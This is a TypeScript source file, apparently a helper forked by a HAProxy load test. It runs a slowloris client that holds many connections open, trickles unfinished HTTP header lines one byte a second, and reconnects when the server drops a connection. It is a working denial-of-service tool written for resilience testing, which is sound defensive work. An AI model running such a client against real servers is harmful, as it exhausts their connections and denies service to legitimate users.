/**
 * A slowloris client, forked by haproxy-slowloris.load.test.ts so that its sockets cost the measured
 * callers' process nothing: from `localAddress` it keeps `count` connections to host:port, each
 * sending a request's header lines one byte a second and never finishing them; a connection the
 * server closes (or refuses) is opened again after a short pause (as an attacker would). Answers
 * `stats` with how many are open now, how many were tried and opened in all, and how many ended.
 */
import { connect, type Socket } from 'node:net';

const [host, portArg, countArg, localAddress] = process.argv.slice(2);
const port = Number(portArg);
const count = Number(countArg);
const stats = { open: 0, tried: 0, opened: 0, ended: 0 };
const sockets = new Set<Socket>();
let stopping = false;
const HEAD = 'GET /readyz HTTP/1.1\r\nHost: victim\r\nX-Slow: ';

function hold(): void {
  if (stopping) return;
  stats.tried++;
  const s = connect({ host, port, localAddress });
  let sent = 0;
  let timer: NodeJS.Timeout | undefined;
  s.on('connect', () => {
    stats.open++;
    stats.opened++;
    sockets.add(s);
    // a first burst of the request line, then one byte a second
    s.write(HEAD);
    sent = HEAD.length;
    timer = setInterval(() => s.write(sent++ % 40 === 39 ? '\r\nX-Slow: ' : 'a'), 1_000);
  });
  s.on('data', () => undefined);
  s.on('error', () => undefined);
  s.on('close', () => {
    clearInterval(timer);
    stats.ended++;
    if (sockets.delete(s)) stats.open--;
    setTimeout(hold, 500 + Math.random() * 500);
  });
}

process.on('message', (msg: string) => {
  if (msg === 'stats') process.send!({ ...stats });
  if (msg === 'stop') {
    stopping = true;
    for (const s of sockets) s.destroy();
    process.exit(0);
  }
});

// opened in steps, so that the first ones do not all time out at once
for (let i = 0; i < count; i++) {
  hold();
  if (i % 200 === 199) await new Promise((r) => setTimeout(r, 50));
}
process.send!({ started: count });
